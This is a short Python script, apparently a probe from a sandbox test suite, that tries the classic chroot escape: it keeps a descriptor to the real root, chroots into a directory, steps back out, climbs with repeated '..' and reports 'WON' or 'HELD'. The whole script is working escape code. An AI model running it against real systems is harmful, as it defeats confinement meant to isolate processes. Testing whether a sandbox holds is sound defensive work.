"""Attacked: the root of the file system: a process that changes its root and keeps a descriptor outside can climb
past it.

Won: a change of root.
"""

import os

print("BEGUN")
os.makedirs("cage", exist_ok=True)
outside = os.open("/", os.O_RDONLY)
try:
    os.chroot("cage")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("WON, and climbed to", sorted(os.listdir("/")))
except OSError as error:
    print(error)
    print("HELD")
